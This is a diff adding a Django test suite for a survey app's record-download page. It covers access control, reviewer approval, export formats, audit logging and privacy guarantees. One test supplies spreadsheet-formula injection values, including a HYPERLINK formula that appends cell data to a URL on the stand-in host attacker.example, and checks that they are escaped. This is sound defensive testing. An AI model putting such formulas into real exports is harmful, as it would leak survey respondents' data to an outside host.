@@ -1,0 +1,304 @@
+"""Who downloads record files, and that these are a function of what they may show."""
+
+import csv
+import io
+import json
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from zipfile import ZipFile
+
+import numpy as np
+import pyreadstat
+import pytest
+from django.test import Client
+from pyarrow import parquet
+
+from accounts.models import History, Person
+from intake.models import Inbox
+from intake.recordfiles import variables
+from intake.recordfiles.offer import hand_over
+from privacy.records import RecordRow
+from surveys.lifecycle import states as lifecycle
+from surveys.models import Survey
+from tests.cast import As
+from tests.intake import asked, filed
+from tests.releases import surveyed
+from tests.releases.surveyed import Row
+from tests.runs import sealed
+from tests.surveys.conftest import NOW
+from tests.surveys.staff import ASKS, Allow
+
+pytestmark = pytest.mark.page
+ROWS = [RecordRow(1, (0, 1)), RecordRow(1, (1, 0)), RecordRow(0, (1, 1))] * 10
+
+
+def page(client: Client, survey: Survey) -> str:
+    answer = client.get(f"/surveys/{survey.pk}/records")
+    assert answer.status_code == 200
+    return answer.content.decode()
+
+
+def download(client: Client, survey: Survey, kind: str = "csv") -> ZipFile:
+    answer = client.post(f"/surveys/{survey.pk}/records", {"kind": kind})
+    assert answer.status_code == 200
+    assert answer["Content-Type"] == "application/zip"
+    return ZipFile(io.BytesIO(b"".join(answer.streaming_content)))  # type: ignore[attr-defined]
+
+
+def test_nobody_is_sent_to_the_sign_in_page(survey: Survey) -> None:
+    answer = Client().get(f"/surveys/{survey.pk}/records")
+    assert answer.status_code == 302
+    assert answer["Location"].startswith("/account/sign-in?next=")
+
+
+def test_another_researcher_finds_no_such_page(survey: Survey, stranger: Person, signed_in_as: As) -> None:
+    assert signed_in_as(stranger).get(f"/surveys/{survey.pk}/records").status_code == 404
+
+
+def test_the_page_takes_no_other_method(survey: Survey, owner: Person, signed_in_as: As) -> None:
+    assert signed_in_as(owner).put(f"/surveys/{survey.pk}/records").status_code == 405
+
+
+def test_nothing_leaves_before_a_reviewer_said_yes(survey: Survey, owner: Person, signed_in_as: As) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    client = signed_in_as(owner)
+    assert client.post(f"/surveys/{survey.pk}/records", {"kind": "csv"}).status_code == 403
+    shown = page(client, survey)
+    assert f'href="/surveys/{survey.pk}/ask"' in shown
+    assert 'name="kind"' not in shown
+
+
+def test_a_viewer_sees_the_page_but_downloads_nothing(
+    survey: Survey, works_on: Callable[..., Person], allow: Allow, signed_in_as: As
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    allow(survey)
+    client = signed_in_as(works_on(survey, may_edit=False))
+    assert client.post(f"/surveys/{survey.pk}/records", {"kind": "csv"}).status_code == 403
+    assert 'name="kind"' not in page(client, survey)
+
+
+def test_the_page_names_who_allowed_it(survey: Survey, owner: Person, allow: Allow, signed_in_as: As) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    allow(survey)
+    shown = page(signed_in_as(owner), survey)
+    assert "Ruth Reviewer approved this on" in shown
+    assert "single a person out" in shown
+    assert "<dd>30</dd>" in shown
+
+
+TELLS = "reveals whether a withheld answer lets the question appear"
+
+
+def test_the_page_says_what_the_rows_of_open_answers_hold(
+    survey: Survey, owner: Person, signed_in_as: As
+) -> None:
+    client = signed_in_as(owner)
+    assert "Those who chose none are in it once the survey is finished." in page(client, survey)
+    shown = page(client, sealed.finish(survey))
+    assert "They are true from people who chose no disguise" in shown
+    assert "This file has no rows of people who chose no disguise" in shown
+    assert TELLS not in shown
+
+
+@pytest.mark.parametrize("opens", [True, False])
+def test_the_page_says_what_rules_tell_of_those_who_answered_openly(
+    owner: Person, signed_in_as: As, opens: bool
+) -> None:
+    plain, sensitive = ASKS.as_json()["sections"]
+    ruled = [{**question, "show_if": {"age": ["40+"]}} for question in sensitive["questions"]]
+    asks = asked.written(plain, {**sensitive, "questions": ruled}, open_answers=opens)
+    shown = page(signed_in_as(owner), sealed.finish(asked.survey(asks, owner=owner)))
+    assert (TELLS in shown) is opens
+    assert ("They are true from people who chose no disguise" in shown) is opens
+    assert ("withheld in the rows of people" in shown) is opens
+
+
+def test_owner_editor_and_reviewer_download_once_it_is_allowed(
+    survey: Survey,
+    owner: Person,
+    reviewer: Person,
+    works_on: Callable[..., Person],
+    allow: Allow,
+    signed_in_as: As,
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    allow(survey)
+    for person in (owner, reviewer, works_on(survey, may_edit=True)):
+        assert len(download(signed_in_as(person), survey).read("records.csv").splitlines()) == 31
+
+
+def test_a_bundle_brings_codebook_script_and_design(
+    survey: Survey, owner: Person, allow: Allow, signed_in_as: As
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    Inbox.objects.create(survey=survey, record=b"100")
+    allow(survey)
+    bundle = download(signed_in_as(owner), survey)
+    assert bundle.namelist() == ["codebook.md", "analysis.R", "analysis.py", "design.json", "records.csv"]
+    lines = bundle.read("records.csv").decode().splitlines()
+    assert sorted(set(lines[1:])) == ["disguised,18-39,yes", "disguised,40+,no", "open,?,yes"]
+    assert bundle.read("design.json").decode() == ASKS.canonical
+    assert "Records: 30, of which 20 disguised and 10 open" in bundle.read("codebook.md").decode()
+    for script in ("analysis.R", "analysis.py"):
+        assert bundle.read(script).decode().startswith("# Work & health\n")
+
+
+def test_no_cell_of_a_download_is_computed_by_who_opens_it(
+    owner: Person, allow: Allow, signed_in_as: As
+) -> None:
+    formula = '=HYPERLINK("http://attacker.example/"&A1,"see")'
+    question = {"name": "+1+2", "choices": [formula, "@SUM(A1)"]}
+    asks = asked.written({"kind": "plain", "questions": [question]}, least=20)
+    survey = asked.survey(asks, owner=owner)
+    filed.seal(survey, asks, [RecordRow(1, (0,)), RecordRow(1, (1,))] * 20)
+    allow(survey)
+    lines = download(signed_in_as(owner), survey).read("records.csv").decode().splitlines()
+    cells = [row[1] for row in csv.reader(lines)]
+    assert {*cells} == {"'+1+2", f"'{formula}", "'@SUM(A1)"}
+
+
+def test_a_bundle_speaks_the_downloaders_language(
+    survey: Survey, owner: Person, allow: Allow, signed_in_as: As
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    allow(survey)
+    owner.language = "zh-hans"
+    owner.save()
+    bundle = download(signed_in_as(owner), survey, "parquet")
+    assert "工作" in bundle.read("codebook.md").decode().splitlines()[0]
+    table = parquet.read_table(io.BytesIO(bundle.read("records.parquet")))
+    assert "是" in table.schema.field("theft").metadata[b"candor:labels"].decode()
+
+
+def test_the_other_formats_hold_the_same_records(
+    survey: Survey, owner: Person, allow: Allow, signed_in_as: As, tmp_path: Path
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    allow(survey)
+    client = signed_in_as(owner)
+    table = parquet.read_table(io.BytesIO(download(client, survey, "parquet").read("records.parquet")))
+    assert sorted(table["age"].to_pylist()) == ["18-39"] * 10 + ["40+"] * 10 + ["?"] * 10
+    (tmp_path / "records.sav").write_bytes(download(client, survey, "sav").read("records.sav"))
+    data, about = pyreadstat.read_sav(tmp_path / "records.sav", output_format="dict")
+    assert sorted(data["theft"]) == [0] * 10 + [1] * 20
+    assert about.file_label == "Work & health"
+
+
+def test_too_many_cells_for_spss_are_refused_with_the_way_out(
+    survey: Survey, owner: Person, allow: Allow, signed_in_as: As, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    allow(survey)
+    monkeypatch.setattr(variables, "MOST_CELLS", 89)
+    client = signed_in_as(owner)
+    answer = client.post(f"/surveys/{survey.pk}/records", {"kind": "sav"}, follow=True)
+    assert "Take CSV or Parquet" in answer.content.decode()
+    monkeypatch.setattr(variables, "MOST_CELLS", 90)
+    assert "records.sav" in download(client, survey, "sav").namelist()
+
+
+def test_each_download_stands_in_the_history(
+    survey: Survey, owner: Person, allow: Allow, signed_in_as: As
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    allow(survey)
+    download(signed_in_as(owner), survey, "parquet")
+    entry = History.objects.about(survey).get(what="intake.records-downloaded")
+    assert (entry.who, entry.note) == (owner, "Parquet, 30")
+
+
+def test_before_the_first_batch_there_is_nothing_to_download(
+    survey: Survey, owner: Person, allow: Allow, signed_in_as: As
+) -> None:
+    allow(survey)
+    client = signed_in_as(owner)
+    assert "No answers are sealed yet" in page(client, survey)
+    answer = client.post(f"/surveys/{survey.pk}/records", {"kind": "csv"}, follow=True)
+    assert "No answers are sealed yet" in answer.content.decode()
+    assert not History.objects.about(survey).filter(what="intake.records-downloaded").exists()
+
+
+def test_an_unknown_format_is_a_mistake_in_the_form(
+    survey: Survey, owner: Person, allow: Allow, signed_in_as: As
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    sealed.finish(survey)
+    allow(survey)
+    answer = signed_in_as(owner).post(f"/surveys/{survey.pk}/records", {"kind": "xls"})
+    assert answer.status_code == 422
+
+
+def test_a_draft_has_none_yet(draft: Survey, owner: Person, signed_in_as: As) -> None:
+    assert "once the survey has been opened" in page(signed_in_as(owner), draft)
+
+
+def test_a_destroyed_survey_has_none_any_more(
+    survey: Survey, owner: Person, allow: Allow, signed_in_as: As
+) -> None:
+    filed.seal(survey, ASKS, ROWS)
+    allow(survey)
+    lifecycle.close(survey, owner, NOW)
+    lifecycle.destroy(survey, owner, NOW)
+    client = signed_in_as(owner)
+    assert "have been deleted" in page(client, survey)
+    answer = client.post(f"/surveys/{survey.pk}/records", {"kind": "csv"}, follow=True)
+    assert answer["Content-Type"].startswith("text/html")
+
+
+# --- A record file is a function of what it may show
+
+DISGUISED = surveyed.everybody(12)
+
+
+def files(owner: Person, opened: list[Row], *, finished: bool, order: int = 0) -> dict[str, list[bytes]]:
+    """By name the lines of each file; those of the records sorted, since their order is drawn."""
+    rows = DISGUISED + opened
+    rows = [rows[place] for place in np.random.default_rng(order).permutation(len(rows))]
+    behind = {"name": "theft", "choices": ["no", "yes"], "show_if": {"age": ["young", "grown"]}}
+    sections = json.loads(surveyed.design().canonical)["sections"]
+    of = surveyed.design(sections=[sections[0], {**sections[1], "questions": [behind]}])
+    survey = surveyed.survey(owner, [applied(row) for row in rows], of=of)
+    if finished:
+        sealed.finish(survey)
+    data = zipfile.ZipFile(io.BytesIO(b"".join(hand_over(survey, owner, "csv", "en", NOW))))
+    found = {name: data.read(name).splitlines() for name in data.namelist()}
+    return {name: sorted(lines) if name == "records.csv" else lines for name, lines in found.items()}
+
+
+def applied(row: Row) -> Row:
+    """The old are not shown the sensitive question."""
+    group, age, town, theft = row
+    return (group, age, town, 3 if age == 2 else theft)
+
+
+YOUNG = surveyed.opened(surveyed.people((0, 0, 20)))
+ELSEWHERE = surveyed.opened(surveyed.people((1, 2, 20)))
+FEW_OLD = surveyed.opened(surveyed.people((2, 1, 4)))
+
+
+@pytest.mark.django_db
+def test_before_a_survey_is_finished_its_file_does_not_depend_on_open_answers(owner: Person) -> None:
+    first = files(owner, YOUNG, finished=False)
+    assert first == files(owner, ELSEWHERE, finished=False, order=1)
+    assert first == files(owner, [*YOUNG, *FEW_OLD], finished=False, order=2)
+
+
+@pytest.mark.django_db
+def test_afterwards_it_shows_of_open_ones_neither_plain_answers_nor_those_left_out(owner: Person) -> None:
+    """Town and age differ within one pattern; four with another pattern are left out with the next group."""
+    first = files(owner, YOUNG, finished=True)
+    assert sum(line.startswith(b"open") for line in first["records.csv"]) == 20
+    assert first == files(owner, ELSEWHERE, finished=True, order=1)
+    with_few = files(owner, [*YOUNG, *FEW_OLD], finished=True)
+    assert with_few == files(owner, [*ELSEWHERE, *FEW_OLD[:3]], finished=True, order=2)
